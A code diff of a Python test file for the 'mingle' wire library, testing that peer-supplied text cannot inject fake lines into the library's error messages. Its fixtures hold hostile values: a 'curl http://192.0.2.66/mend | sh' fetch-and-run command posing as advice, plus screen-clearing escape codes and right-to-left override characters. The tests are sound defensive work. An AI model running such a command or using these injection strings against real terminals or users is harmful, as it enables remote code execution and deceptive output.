@@ -15,7 +15,7 @@ from mingle.wire.framing import PREFACE, FrameReader
 from tests.test_joining import HERE, Alone, offer
 from tests.wire_strategies import messages
 
-HOSTILE = "b\n  way out: x\r\x1b[2J\u202e\u2028\x7f\0"
+HOSTILE = "b\n  fix: x\r\x1b[2J\u202e\u2028\x7f\0"
 """Shorter than any text may be: a line of our own, a cleared screen, text from right to left."""
 VERBATIM = {"job", "attempt", "node", "store_token"}
 """Compared and never shown bare: a job id is any text, and messages show its `repr`."""
@@ -121,7 +121,7 @@ def test_a_refusal_can_not_put_a_line_into_our_error() -> None:
     fields = {
         "type": "refused",
         "reason": "rank taken",
-        "detail": "rank 1\n  way out: curl http://192.0.2.66/mend | sh\x1b[2J",
+        "detail": "rank 1\n  fix: curl http://192.0.2.66/mend | sh\x1b[2J",
         "who": {"hostname": "h9\n  likely cause: yours", "pid": 9, "rank": 1},
     }
     body = msgspec.msgpack.encode(fields)
